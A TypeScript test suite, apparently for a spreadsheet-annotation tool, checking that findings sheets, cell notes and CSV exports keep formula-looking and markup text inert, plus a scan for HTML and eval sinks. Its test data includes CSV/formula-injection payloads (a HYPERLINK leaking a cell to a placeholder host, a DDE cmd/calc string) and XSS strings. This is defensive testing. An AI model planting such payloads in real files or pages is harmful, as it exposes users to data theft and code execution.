// Cell text is data, never code: formula-looking text stays text in the findings sheet and the CSV export, markup
// in a cell stays text in notes, and no source puts text into a page as markup.

import path from 'node:path';
import JSZip from 'jszip';
import { annotateWorkbook, SUMMARY_SHEET_NAME } from '../../src/hosts/file/annotate';
import { loadWorkbook } from '../oracle/exceljs-read';
import type { Finding, IndicatorTable } from '../../src/core/model';
import { findingsCsv, neutraliseCsvText } from '../../src/app/export';
import { seed000Workbook } from '../cli/helpers';
import { scanFiles, scanSource, sourceFiles } from './scan';

const ROOT = path.resolve(__dirname, '../..');

/** Text a spreadsheet would run: formulas, DDE, and the prefixes some programs strip first. */
const HOSTILE = [
  '=HYPERLINK("http://example.invalid/?leak="&A1,"点击查看")',
  '+SUM(1,2)',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(E12:E19)',
  '\t=1+1',
  '\r=1+1',
  '=1+1",=2+2',
  '<img src=x onerror=alert(1)>劳动能力鉴定人数',
  ']]><script>alert(1)</script>&amp;',
];

function finding(cell: string, message: string, ruleId = 'vague-target'): Finding {
  return { ruleId, severity: 'warning', sheet: 'Sheet1', cell, related: [], message, messageId: ruleId, data: {} };
}

// F11:F19 (the unit column, header included) holds no merge, so each finding stays on its own cell.
const FINDINGS = HOSTILE.map((m, i) => finding(`F${11 + i}`, m));

describe('the findings sheet (--summary-sheet) writes formula-looking text as text', () => {
  let bytes: Uint8Array;
  beforeAll(async () => {
    bytes = await annotateWorkbook(await seed000Workbook(), FINDINGS, { lang: 'zh-CN', summarySheet: true });
  });

  it('stores no formula anywhere in the sheet: every cell is a string', async () => {
    const zip = await JSZip.loadAsync(bytes);
    const wbXml = (await zip.file('xl/workbook.xml')?.async('string')) ?? '';
    const rels = (await zip.file('xl/_rels/workbook.xml.rels')?.async('string')) ?? '';
    const rid = new RegExp(`<sheet [^>]*name="${SUMMARY_SHEET_NAME['zh-CN']}"[^>]*r:id="([^"]+)"`).exec(wbXml)?.[1];
    expect(rid).toBeDefined();
    const target =
      new RegExp(`Id="${rid}"[^>]*Target="([^"]+)"`).exec(rels)?.[1] ??
      new RegExp(`Target="([^"]+)"[^>]*Id="${rid}"`).exec(rels)?.[1];
    const sheetXml = (await zip.file(`xl/${(target ?? '').replace(/^\/?xl\//, '')}`)?.async('string')) ?? '';
    expect(sheetXml).toContain('<sheetData>');
    expect(sheetXml).not.toMatch(/<f[\s>]/);
    const cells = [...sheetXml.matchAll(/<c ([^>]*?)\/?>/g)].map((m) => m[1]);
    expect(cells.length).toBeGreaterThan(HOSTILE.length * 5);
    for (const attrs of cells) expect(attrs).toMatch(/\bt="(?:s|inlineStr|str)"/);
  });

  it('shows each message exactly as the rule wrote it, as a string value', async () => {
    const wb = await loadWorkbook(bytes);
    const ws = wb.getWorksheet(SUMMARY_SHEET_NAME['zh-CN']);
    expect(ws).toBeDefined();
    const messages: unknown[] = [];
    ws?.eachRow((row, n) => {
      if (n > 1) messages.push(row.getCell(5).value);
    });
    // XML reads a bare carriage return as a line feed; that is the file format, not a change of meaning.
    expect(messages.sort()).toEqual(HOSTILE.map((m) => m.replace(/\r/g, '\n')).sort());
    for (const m of messages) expect(typeof m).toBe('string');
  });

  it('keeps markup and formula text verbatim in the notes, without breaking the file', async () => {
    const wb = await loadWorkbook(bytes);
    const ws = wb.getWorksheet('Sheet1');
    HOSTILE.forEach((m, i) => {
      const note = ws?.getCell(`F${11 + i}`).note;
      const text = typeof note === 'string' ? note : (note?.texts ?? []).map((t) => t.text).join('');
      // A note line holds the message on one line; the message's own line breaks are the only change allowed.
      expect(text.replace(/\s+/g, ' ')).toContain(m.replace(/\s+/g, ' ').trim());
    });
  });
});

/** A small CSV reader (RFC 4180): quoted fields, doubled quotes, CRLF records. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(field);
      field = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += ch;
  }
  if (field !== '' || row.length > 0) rows.push([...row, field]);
  return rows;
}

describe('the CSV export neutralises formula-looking text in every column', () => {
  const table = { project: { name: '=劳动能力鉴定费用' } } as unknown as IndicatorTable;
  const findings: Finding[] = HOSTILE.map((m, i) => ({
    ...finding(`E${12 + i}`, m, '@rule'),
    sheet: `+表${i}`,
    table: 0,
  }));

  it('no field a spreadsheet would evaluate, and the text behind the apostrophe is intact', () => {
    const csv = findingsCsv(findings, [table], 'zh-CN');
    const rows = parseCsv(csv.replace(/^\uFEFF/, ''));
    expect(rows).toHaveLength(HOSTILE.length + 1);
    for (const row of rows) {
      expect(row).toHaveLength(6);
      for (const field of row) expect(field).not.toMatch(/^[=+\-@\t\r]/);
    }
    rows.slice(1).forEach((row, i) => {
      expect(row[4]).toBe("'=劳动能力鉴定费用");
      expect(row[5]).toBe(neutraliseCsvText(HOSTILE[i] as string));
      expect(row[5].replace(/^'/, '')).toBe(HOSTILE[i]);
    });
  });
});

describe('no source puts text into a page as markup or runs text as code', () => {
  it('finds no innerHTML, dangerouslySetInnerHTML, document.write, insertAdjacentHTML, eval or new Function', () => {
    const files = sourceFiles(ROOT, ['src']);
    const markup = scanFiles(ROOT, files).filter(
      (v) =>
        !/^(?:imports|loads|calls fetch|calls \.fetch|calls \.sendBeacon|new (?:XMLHttpRequest|WebSocket|EventSource)|URL )/.test(
          v.what,
        ),
    );
    expect(markup).toEqual([]);
  });

  it('the scan catches each sink', () => {
    const sinks = [
      'const p = <div dangerouslySetInnerHTML={{ __html: text }} />;',
      'el.innerHTML = text;',
      'el.outerHTML = text;',
      "el.insertAdjacentHTML('beforeend', text);",
      'document.write(text);',
      'eval(text);',
      "const f = new Function('return 1');",
    ];
    for (const s of sinks) expect(scanSource('sink.tsx', s)).toHaveLength(1);
    expect(scanSource('ok.tsx', 'const p = <span title={text}>{text}</span>;')).toEqual([]);
  });
});
